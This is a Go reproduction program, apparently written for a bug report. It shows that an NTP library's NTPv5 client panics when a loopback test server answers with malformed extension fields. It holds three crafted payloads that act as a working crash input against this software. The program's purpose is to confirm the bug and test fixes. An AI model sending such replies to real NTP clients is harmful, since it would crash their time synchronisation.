// Command repro shows that github.com/beevik/ntp's NTPv5 client
// (QueryOptions{Version: 5}) panics on replies whose extension fields are
// shorter than the parser assumes.
//
// Each case answers one query on a loopback UDP socket with a 48-octet NTPv5
// server reply (client cookie echoed, as the server or an on-path attacker
// does) followed by one malformed extension field. repro exits 1 and prints
// the panics when the library panics on any case, 0 when every query returns.
package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"time"

	"github.com/beevik/ntp"
)

var cases = []struct {
	name string
	ext  []byte // appended to the 48-octet header
}{
	{"length 0 (shorter than its own 4-octet header)", []byte{0xf5, 0x01, 0x00, 0x00}},
	{"MAC field with an empty body", []byte{0xf5, 0x02, 0x00, 0x04}},
	{"length 5 at the end of the datagram (padded length runs past it)", []byte{0xf5, 0x01, 0x00, 0x05, 0x00}},
}

func main() {
	present := false
	for _, c := range cases {
		err, panicked := query(c.ext)
		if panicked != nil {
			present = true
			fmt.Printf("present: %s: ntp.QueryWithOptions panicked: %v\n", c.name, panicked)
			continue
		}
		fmt.Printf("absent: %s: ntp.QueryWithOptions returned (err=%v)\n", c.name, err)
	}
	if present {
		os.Exit(1)
	}
}

// query runs an NTPv5 query against a one-shot server answering with ext
// after the header, and returns the query's error or what it panicked with.
func query(ext []byte) (err error, panicked any) {
	pc, lerr := net.ListenPacket("udp4", "127.0.0.1:0")
	if lerr != nil {
		fmt.Fprintln(os.Stderr, "repro:", lerr)
		os.Exit(2)
	}
	defer pc.Close()
	go serve(pc, ext)

	defer func() { panicked = recover() }()
	_, err = ntp.QueryWithOptions(pc.LocalAddr().String(), ntp.QueryOptions{Version: 5, Timeout: 5 * time.Second})
	return err, nil
}

func serve(pc net.PacketConn, ext []byte) {
	req := make([]byte, 1024)
	n, from, err := pc.ReadFrom(req)
	if err != nil || n < 48 {
		return
	}
	now := uint64(time.Now().Unix()+2208988800) << 32
	reply := make([]byte, 48, 48+len(ext))
	reply[0] = 0<<6 | 5<<3 | 4                                   // leap 0, version 5, mode 4 (server)
	reply[1] = 2                                                 // stratum
	reply[2] = 6                                                 // poll
	reply[3] = 0xec                                              // precision
	binary.BigEndian.PutUint64(reply[16:24], 0x0123456789abcdef) // server cookie
	copy(reply[24:32], req[24:32])                               // client cookie echoed
	binary.BigEndian.PutUint64(reply[32:40], now)                // receive time
	binary.BigEndian.PutUint64(reply[40:48], now+1<<20)          // transmit time
	pc.WriteTo(append(reply, ext...), from)
}
